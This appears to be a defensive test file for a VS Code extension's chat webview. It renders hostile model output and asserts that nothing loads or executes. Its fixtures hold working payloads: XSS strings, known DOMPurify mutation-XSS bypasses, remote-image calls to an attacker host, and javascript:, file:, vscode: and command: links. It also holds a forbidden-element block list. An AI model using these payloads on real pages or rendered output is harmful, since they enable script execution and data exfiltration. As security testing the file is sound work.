@@ -1,0 +1,363 @@
+// Hostile model output in the real chat webview (Chromium, production CSP). Every case runs twice: streamed live
+// (busy, messageAdded, deltas, messageDone) and restored (init with the message in the chat). A load proves
+// itself on the attacker's server; an executed payload would set window.__pwned.
+import * as assert from 'node:assert/strict';
+import { checkModelLink, linkConfirmationDetail } from '../../src/shared/links';
+import type { HostMessage, WebviewMessage } from '../../src/shared/protocol';
+import { RICH_MARKDOWN, answer, init, user } from '../webview/fixtures';
+import { WebviewPage, closeBrowser } from '../webview/page';
+
+type Mode = 'live' | 'restored';
+const MODES: readonly Mode[] = ['live', 'restored'];
+const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+const ANSWER = '[data-message-id=a1]';
+const DONE = `${ANSWER} [data-testid=message-usage]`;
+const HANG_BOUND_MS = 20_000;
+
+interface Win {
+  __pwned?: unknown;
+  __posted: WebviewMessage[];
+}
+
+/** Streams `text` in small deltas, letting frames render in between (so half-written HTML is rendered too). */
+async function streamLive(view: WebviewPage, text: string, chunk = 23): Promise<void> {
+  await view.send(init([user('u1', 'q')]));
+  await view.send({ type: 'busy', busy: true });
+  const messages: HostMessage[] = [{ type: 'messageAdded', message: { id: 'a1', role: 'assistant', text: '', model: 'gemini' } }];
+  for (let i = 0; i < text.length; i += chunk) messages.push({ type: 'delta', messageId: 'a1', kind: 'text', text: text.slice(i, i + chunk) });
+  await postInFrames(view, messages);
+}
+
+/** Posts host messages from inside the page, a frame every few messages, and waits until they are handled. */
+async function postInFrames(view: WebviewPage, messages: HostMessage[], perFrame = 3): Promise<void> {
+  await view.page.evaluate(
+    async ({ messages, perFrame }) => {
+      for (let i = 0; i < messages.length; i++) {
+        window.postMessage(messages[i], '*');
+        if (i % perFrame === perFrame - 1) await new Promise(requestAnimationFrame);
+      }
+      await new Promise((resolve) => setTimeout(resolve, 0));
+    },
+    { messages: messages as unknown as Record<string, unknown>[], perFrame },
+  );
+}
+
+async function finishLive(view: WebviewPage, text: string): Promise<void> {
+  await view.send({ type: 'messageDone', message: answer('a1', text), totalCostUsd: 0.001 });
+  await view.send({ type: 'busy', busy: false });
+}
+
+async function render(view: WebviewPage, mode: Mode, text: string): Promise<void> {
+  if (mode === 'live') {
+    await streamLive(view, text);
+    await finishLive(view, text);
+  } else {
+    await view.send(init([user('u1', 'q'), answer('a1', text)]));
+  }
+  await view.page.waitForSelector(DONE);
+}
+
+/** A deterministic pause: a frame, then 300 ms for any load or timer a payload started. */
+async function settle(view: WebviewPage): Promise<void> {
+  await view.page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 300))));
+}
+
+const FORBIDDEN_ELEMENTS = 'script, iframe, frame, frameset, object, embed, form, base, meta, style, link, svg, math, video, audio, picture, source, track, portal, noscript, template, button, textarea, select';
+const FORBIDDEN_ATTRIBUTES = ['style', 'srcset', 'poster', 'background', 'formaction', 'action', 'srcdoc', 'http-equiv', 'ping', 'xlink:href', 'data', 'codebase', 'lowsrc', 'dynsrc', 'href'];
+
+/** Everything in the transcript that could load or run something. */
+async function offenders(view: WebviewPage): Promise<string[]> {
+  return view.page.evaluate(
+    ({ elements, attributes }) => {
+      const root = document.querySelector('.messages')!;
+      const found = [...root.querySelectorAll(elements)].map((el) => `<${el.tagName.toLowerCase()}>`);
+      for (const el of root.querySelectorAll('*')) {
+        for (const attr of el.attributes) {
+          const name = attr.name.toLowerCase();
+          const loads = name === 'src' && !attr.value.startsWith('data:image/');
+          if (name.startsWith('on') || attributes.includes(name) || loads) found.push(`<${el.tagName.toLowerCase()} ${name}="${attr.value.slice(0, 80)}">`);
+        }
+      }
+      return found;
+    },
+    { elements: FORBIDDEN_ELEMENTS, attributes: FORBIDDEN_ATTRIBUTES },
+  );
+}
+
+async function assertInert(view: WebviewPage, startUrl: string): Promise<void> {
+  await settle(view);
+  assert.deepEqual(view.attackerRequests, [], 'the attacker server saw a request');
+  assert.equal(await view.page.evaluate(() => (window as unknown as Win).__pwned), undefined, 'a payload ran');
+  assert.deepEqual(await offenders(view), [], 'the transcript holds something that loads or runs');
+  assert.deepEqual(view.cspViolations, [], 'the sanitizer let through something only the CSP stopped');
+  assert.equal(view.page.url(), startUrl, 'the webview navigated');
+}
+
+interface Case {
+  readonly name: string;
+  readonly markdown: (attacker: string) => string;
+  /** Text to click or hover after rendering (a payload that waits for the user). */
+  readonly click?: readonly string[];
+  readonly hover?: readonly string[];
+}
+
+const REMOTE_IMAGES: Case[] = [
+  { name: 'markdown image, inline', markdown: (a) => `Look: ![chart](${a}/inline.png) and ![t](${a}/titled.png "title")\n\n[![nested](${a}/nested.png)](https://example.com)` },
+  { name: 'markdown image, reference-style', markdown: (a) => `Full ![logo][r1], collapsed ![r2][], shortcut ![r3].\n\n[r1]: ${a}/ref-full.png\n[r2]: ${a}/ref-collapsed.png "t"\n[r3]: <${a}/ref-shortcut.png>\n` },
+  { name: 'HTML img', markdown: (a) => `<img src="${a}/img.png">\n\n<IMG SRC=${a}/img-upper.png>\n\nInline <img src='${a}/img-inline.png' alt=x> in text, and <img src="//${a.replace(/^http:\/\//, '')}/protocol-relative.png">` },
+  { name: 'img srcset', markdown: (a) => `<img srcset="${a}/srcset-1x.png 1x, ${a}/srcset-2x.png 2x">\n\n<img src="data:image/png;base64,${PNG}" srcset="${a}/srcset-data.png 1x, ${a}/srcset-data2.png 2x" sizes="100vw">` },
+  { name: 'picture/source', markdown: (a) => `<picture><source srcset="${a}/source.png" type="image/png"><source media="(min-width: 1px)" srcset="${a}/source-media.png"><img src="${a}/picture-img.png"></picture>` },
+  { name: 'video poster and source', markdown: (a) => `<video poster="${a}/poster.png" src="${a}/video.mp4" autoplay muted preload="auto"></video>\n\n<video poster="${a}/poster2.png"><source src="${a}/video-source.mp4"><track src="${a}/track.vtt"></video>` },
+  { name: 'CSS url() in a style attribute', markdown: (a) => `<div style="background-image:url(${a}/style-attr.png)">styled</div>\n\n<span style="list-style-image:url('${a}/list.png');cursor:url(${a}/cursor.cur),auto">span</span> <p style="background:url(&quot;${a}/entity.png&quot;)">p</p>\n\n<table><tr><td style="background:url(${a}/td-style.png)">cell</td></tr></table>` },
+  { name: 'CSS url() in <style>', markdown: (a) => `<style>@import url(${a}/import.css); .messages { background: url(${a}/style-element.png) } @font-face { font-family: evil; src: url(${a}/font.woff) } p { font-family: evil }</style>\n\nText <style>*{background:url(${a}/inline-style.png)}</style> inline.\n\n<svg><style>svg{background:url(${a}/svg-style.png)}</style></svg>` },
+  { name: 'SVG image', markdown: (a) => `<svg width="20" height="20"><image href="${a}/svg-image.png" width="20" height="20"/><image xlink:href="${a}/svg-xlink.png" width="20" height="20"/><use href="${a}/use.svg#x"/><filter id="f"><feImage href="${a}/feimage.png"/></filter></svg>` },
+  { name: 'SVG foreignObject', markdown: (a) => `<svg width="100" height="100"><foreignObject width="100" height="100"><img src="${a}/foreign-img.png"><div style="background:url(${a}/foreign-css.png)">inside</div><iframe src="${a}/foreign-iframe"></iframe></foreignObject></svg>` },
+  { name: 'link rel=preload/prefetch/stylesheet', markdown: (a) => `<link rel="preload" as="image" href="${a}/preload.png"><link rel="prefetch" href="${a}/prefetch"><link rel="stylesheet" href="${a}/sheet.css"><link rel="icon" href="${a}/icon.png"><link rel="modulepreload" href="${a}/module.js">\n\nafter links` },
+  { name: 'object/embed', markdown: (a) => `<object data="${a}/object.svg" type="image/svg+xml"></object>\n\n<embed src="${a}/embed.svg" type="image/svg+xml">\n\n<object data="${a}/object.html"><param name="movie" value="${a}/param.swf"></object>` },
+  { name: 'audio src', markdown: (a) => `<audio src="${a}/audio.mp3" autoplay preload="auto"></audio>\n\n<audio preload="auto"><source src="${a}/audio-source.mp3"></audio>` },
+  { name: 'input type=image', markdown: (a) => `<input type="image" src="${a}/input.png">\n\n<input type=IMAGE src=${a}/input-upper.png>\n\n- [ ] task <input type="checkbox" src="${a}/checkbox-src.png">` },
+  { name: 'background attribute', markdown: (a) => `<table background="${a}/table-bg.png"><tr><td background="${a}/td-bg.png">cell</td></tr></table>\n\n<body background="${a}/body-bg.png"><div background="${a}/div-bg.png">div</div>` },
+];
+
+const SCRIPTS: Case[] = [
+  { name: '<script>', markdown: (a) => `<script>window.__pwned = 'script'</script>\n\nText <script src="${a}/script.js"></script> and <svg><script>window.__pwned = 'svg-script'</script></svg>\n\n<SCRIPT>window.__pwned = 'upper'</SCRIPT>` },
+  {
+    name: 'event handlers (onerror, onload, onclick, svg onload, ontoggle, onmouseover)',
+    markdown: () =>
+      `<img src="x" onerror="window.__pwned = 'onerror'">\n\n<img src="data:image/png;base64,${PNG}" onload="window.__pwned = 'onload'">\n\n<a href="#" onclick="window.__pwned = 'onclick'">click me</a>\n\n<svg onload="window.__pwned = 'svg-onload'"><circle r="5"/></svg>\n\n<details open ontoggle="window.__pwned = 'ontoggle'"><summary>toggle me</summary>x</details>\n\n<div onmouseover="window.__pwned = 'hover'">hover me</div>\n\n<input type="checkbox" autofocus onfocus="window.__pwned = 'focus'">`,
+    click: ['click me', 'toggle me'],
+    hover: ['hover me'],
+  },
+  { name: 'iframe / srcdoc', markdown: (a) => `<iframe srcdoc="<script>parent.__pwned = 'srcdoc'</script><img src='${a}/srcdoc.png'>"></iframe>\n\n<iframe src="${a}/iframe"></iframe>\n\n<iframe src="javascript:parent.__pwned = 'iframe-js'"></iframe>\n\n<frameset><frame src="${a}/frame"></frameset>` },
+  { name: 'meta refresh', markdown: (a) => `<meta http-equiv="refresh" content="0;url=${a}/refresh">\n\nText <meta http-equiv="refresh" content="0;url=javascript:window.__pwned='refresh'"> inline.` },
+  {
+    name: 'form / formaction',
+    markdown: (a) => `<form action="${a}/form" method="get"><input name="q" value="secret"><button type="submit">Submit form</button></form>\n\n<button formaction="${a}/formaction">Go formaction</button>\n\n<form><input type="submit" formaction="${a}/input-formaction" value="x"></form>`,
+    click: ['Submit form', 'Go formaction'],
+  },
+  { name: 'base href', markdown: (a) => `<base href="${a}/base/">\n\n![relative](relative.png) <img src="relative2.png">\n\n[relative link](relative/page)`, click: ['relative link'] },
+  {
+    name: 'mutation XSS (known DOMPurify bypass shapes)',
+    markdown: () =>
+      `<noscript><p title="</noscript><img src=x onerror=window.__pwned='mxss1'>">\n\n<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned='mxss2'>\n\n<svg></p><style><a id="</style><img src=1 onerror=window.__pwned='mxss3'>">\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned='mxss4'>\n\n<template><img src=x onerror=window.__pwned='template'></template>`,
+  },
+  { name: 'markdown link title breaking out', markdown: () => `[hover title](https://example.com "\\" onmouseover=\\"window.__pwned='title'")\n\n![img alt" onerror="window.__pwned='alt'](x.png)`, hover: ['hover title'] },
+];
+
+interface LinkCase {
+  readonly text: string;
+  readonly markdown: string;
+}
+
+const LINKS: LinkCase[] = [
+  { text: 'js link', markdown: "[js link](javascript:window.__pwned='js-link')" },
+  { text: 'JS upper', markdown: "[JS upper](JaVaScRiPt:window.__pwned='js-upper')" },
+  { text: 'js entity', markdown: "[js entity](&#106;avascript:window.__pwned='js-entity')" },
+  { text: 'data link', markdown: '[data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)' },
+  { text: 'file link', markdown: '[file link](file:///etc/passwd)' },
+  { text: 'vscode link', markdown: '[vscode link](vscode://vscode.git/clone?url=https://evil.test/repo)' },
+  { text: 'vscode extension', markdown: '[vscode extension](vscode:extension/evil.publisher)' },
+  { text: 'command link', markdown: '[command link](command:workbench.action.terminal.new)' },
+  { text: 'html command', markdown: '<a href="command:workbench.action.openSettings">html command</a>' },
+  { text: 'html js', markdown: "<a href=\"javascript:window.__pwned='html-js'\">html js</a>" },
+  { text: 'autolink', markdown: '<vscode:extension/evil.publisher> and see autolink' },
+];
+
+describe('security: hostile markdown in the chat webview (Chromium)', function () {
+  let view: WebviewPage;
+  let startUrl: string;
+  afterEach(async () => view?.close());
+  after(closeBrowser);
+
+  async function open(): Promise<WebviewPage> {
+    view = await WebviewPage.open();
+    startUrl = view.page.url();
+    return view;
+  }
+
+  async function interact(c: Case): Promise<void> {
+    const messages = view.page.locator('.messages');
+    for (const text of c.click ?? []) {
+      const target = messages.getByText(text, { exact: true });
+      if (await target.count()) await target.first().click();
+    }
+    for (const text of c.hover ?? []) {
+      const target = messages.getByText(text, { exact: true });
+      if (await target.count()) await target.first().hover();
+    }
+  }
+
+  describe('remote images load nothing', () => {
+    for (const c of REMOTE_IMAGES) {
+      for (const mode of MODES) {
+        it(`${c.name} (${mode})`, async () => {
+          await open();
+          await render(view, mode, c.markdown(view.attackerOrigin));
+          await interact(c);
+          await assertInert(view, startUrl);
+        });
+      }
+    }
+  });
+
+  describe('scripts, handlers, frames, refresh, forms and base do nothing', () => {
+    for (const c of SCRIPTS) {
+      for (const mode of MODES) {
+        it(`${c.name} (${mode})`, async () => {
+          await open();
+          await render(view, mode, c.markdown(view.attackerOrigin));
+          await interact(c);
+          await assertInert(view, startUrl);
+        });
+      }
+    }
+  });
+
+  describe('links with dangerous schemes do not open', () => {
+    for (const mode of MODES) {
+      it(`javascript:, data:, file:, vscode:, command: (${mode})`, async () => {
+        await open();
+        await render(view, mode, LINKS.map((l) => l.markdown).join('\n\n'));
+        for (const link of LINKS) {
+          const target = view.page.locator('.messages').getByText(link.text, { exact: true });
+          if (await target.count()) await target.first().click();
+        }
+        await assertInert(view, startUrl);
+        const opened = (await view.posted()).filter((m): m is Extract<WebviewMessage, { type: 'openLink' }> => m.type === 'openLink');
+        for (const message of opened) assert.equal(checkModelLink(message.href).ok, false, `the host would open ${message.href}`);
+      });
+    }
+
+    for (const mode of MODES) {
+      it(`link text that looks like another URL: the confirmation shows the real one (${mode})`, async () => {
+        await open();
+        await render(view, mode, 'See [https://github.com/microsoft/vscode](https://evil.test/steal) for details.');
+        await view.page.locator('.messages').getByText('https://github.com/microsoft/vscode').click();
+        const posted = await view.waitForPosted('openLink');
+        assert.deepEqual(posted, { type: 'openLink', href: 'https://evil.test/steal', text: 'https://github.com/microsoft/vscode' });
+        const checked = checkModelLink(posted.href);
+        assert.ok(checked.ok);
+        assert.equal(linkConfirmationDetail(checked.url, posted.href, posted.text), 'The link text says "https://github.com/microsoft/vscode", but it goes to:\nhttps://evil.test/steal');
+        assert.equal(view.page.url(), startUrl, 'the webview did not navigate');
+      });
+    }
+  });
+
+  describe('invisible characters are made visible in code blocks', () => {
+    const CODE = 'const access = "user\u202E \u2066// admin\u2069 \u2066";\nlet x\u200B = 1; // tag:\u{E0041}\u{E0042}\u{E007F}\n\uFEFFend';
+    const EXPECTED = ['U+202E', 'U+2066', 'U+2069', 'U+2066', 'U+200B', 'U+E0041', 'U+E0042', 'U+E007F', 'U+FEFF'];
+
+    async function markersIn(selector: string): Promise<{ labels: string[]; hidden: boolean }> {
+      return view.page.evaluate((sel) => {
+        const code = document.querySelector(sel)!;
+        const labels = [...code.querySelectorAll('.invisible-char')].map((m) => m.textContent ?? '');
+        const hidden = /[\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDC7F]/.test(code.textContent ?? '');
+        return { labels, hidden };
+      }, selector);
+    }
+
+    async function assertMarked(selector: string): Promise<void> {
+      const { labels, hidden } = await markersIn(selector);
+      assert.deepEqual(labels, EXPECTED);
+      assert.equal(hidden, false, 'an invisible character is still in the code text');
+    }
+
+    async function assertCopyExact(): Promise<void> {
+      await view.page.locator(`${ANSWER} [data-testid=code-block]`).hover();
+      await view.page.locator(`${ANSWER} [data-testid=code-copy]`).click();
+      assert.deepEqual(await view.waitForPosted('copy'), { type: 'copy', text: CODE }, 'copy gives the real code, markers excluded');
+    }
+
+    for (const mode of MODES) {
+      it(`highlighted path (${mode})`, async () => {
+        await open();
+        await render(view, mode, `Here:\n\n\`\`\`javascript\n${CODE}\n\`\`\`\n`);
+        await view.page.waitForSelector(`${ANSWER} code.hljs`);
+        await assertMarked(`${ANSWER} pre code`);
+        await assertCopyExact();
+      });
+
+      it(`unhighlighted path: no language, unknown language (${mode})`, async () => {
+        await open();
+        await render(view, mode, `\`\`\`\n${CODE}\n\`\`\`\n\n\`\`\`brainfuck\n${CODE}\n\`\`\`\n`);
+        const blocks = view.page.locator(`${ANSWER} pre code`);
+        assert.equal(await blocks.count(), 2);
+        for (const i of [1, 2]) await assertMarked(`${ANSWER} .code-block:nth-of-type(${i}) pre code`);
+        assert.equal(await view.page.locator(`${ANSWER} code.hljs`).count(), 0);
+      });
+    }
+
+    for (const chunk of [1, 5, 23]) {
+      it(`while streaming, in the open code block (deltas of ${chunk} chars)`, async () => {
+        await open();
+        await streamLive(view, `Here:\n\n\`\`\`javascript\n${CODE}\n`, chunk);
+        await view.page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
+        await assertMarked(`${ANSWER} .markdown-open pre code`);
+        await finishLive(view, `Here:\n\n\`\`\`javascript\n${CODE}\n\`\`\`\n`);
+        await view.page.waitForSelector(DONE);
+        await view.page.waitForSelector(`${ANSWER} code.hljs`);
+        await assertMarked(`${ANSWER} pre code`);
+      });
+    }
+  });
+
+  describe('huge and deep answers do not hang the panel', () => {
+    const DEEP = 10_000;
+    const HUGE = 5 * 1024 * 1024;
+    const cases: { name: string; text: () => string }[] = [
+      { name: `${DEEP} nested blockquotes`, text: () => `${'>'.repeat(DEEP)} deep quote\n\nafter` },
+      { name: `${DEEP} nested blockquotes, spaced`, text: () => `${'> '.repeat(DEEP)}deep quote\n\nafter` },
+      { name: `${DEEP} nested lists`, text: () => `${'- '.repeat(DEEP)}deep item\n\nafter` },
+      { name: `${DEEP} nested ordered lists`, text: () => `${'1. '.repeat(DEEP)}deep item\n\nafter` },
+      { name: `${DEEP} nested quotes and lists`, text: () => `${'> - '.repeat(DEEP / 2)}deep\n\nafter` },
+      { name: `${DEEP} nested HTML <div>`, text: () => `${'<div>'.repeat(DEEP)}deep div${'</div>'.repeat(DEEP)}\n\nafter` },
+      { name: `${DEEP} unclosed HTML <div>`, text: () => `${'<div>'.repeat(DEEP)}deep div\n\nafter` },
+      { name: `${DEEP} nested brackets and emphasis`, text: () => `${'['.repeat(DEEP)}x${']'.repeat(DEEP)} ${'*_'.repeat(DEEP)}y\n\nafter` },
+      { name: '5 MB of mixed markdown', text: () => repeatTo(RICH_MARKDOWN + '\n', HUGE) },
+      { name: '5 MB code block', text: () => `\`\`\`typescript\n${repeatTo('const total = items.reduce((sum, item) => sum + item.price * item.quantity, 0);\n', HUGE)}\`\`\`\n` },
+      { name: '5 MB single line', text: () => repeatTo('word ', HUGE) },
+    ];
+    const timings: string[] = [];
+    after(() => {
+      if (timings.length) console.log(`\n    render times:\n${timings.map((t) => `      ${t}`).join('\n')}`);
+    });
+
+    for (const c of cases) {
+      for (const mode of MODES) {
+        it(`${c.name} (${mode})`, async function () {
+          this.timeout(HANG_BOUND_MS * 3);
+          const text = c.text();
+          await open();
+          const started = Date.now();
+          if (mode === 'live') {
+            await streamLive(view, text, text.length > 100_000 ? 64 * 1024 : 997);
+            await finishLive(view, text);
+          } else {
+            await view.send(init([user('u1', 'q'), answer('a1', text)]));
+          }
+          await view.page.waitForSelector(DONE, { timeout: HANG_BOUND_MS });
+          await withTimeout(view.page.evaluate(() => 1), HANG_BOUND_MS - (Date.now() - started), 'the page stopped answering');
+          const elapsed = Date.now() - started;
+          timings.push(`${`${c.name} (${mode})`.padEnd(48)} ${String(elapsed).padStart(6)} ms`);
+          assert.ok(elapsed < HANG_BOUND_MS, `took ${elapsed} ms`);
+          const shown = await view.page.locator(`${ANSWER} .markdown`).first().evaluate((el) => (el.textContent ?? '').length);
+          assert.ok(shown > 0, 'the answer shows');
+          if (text.includes('after')) assert.match((await view.page.locator(`${ANSWER} .markdown`).first().textContent()) ?? '', /after/);
+        });
+      }
+    }
+  });
+});
+
+function repeatTo(unit: string, size: number): string {
+  return unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
+}
+
+async function withTimeout<T>(promise: Promise<T>, ms: number, message: string): Promise<T> {
+  let timer: NodeJS.Timeout | undefined;
+  try {
+    return await Promise.race([promise, new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(message)), Math.max(0, ms))))]);
+  } finally {
+    clearTimeout(timer);
+  }
+}
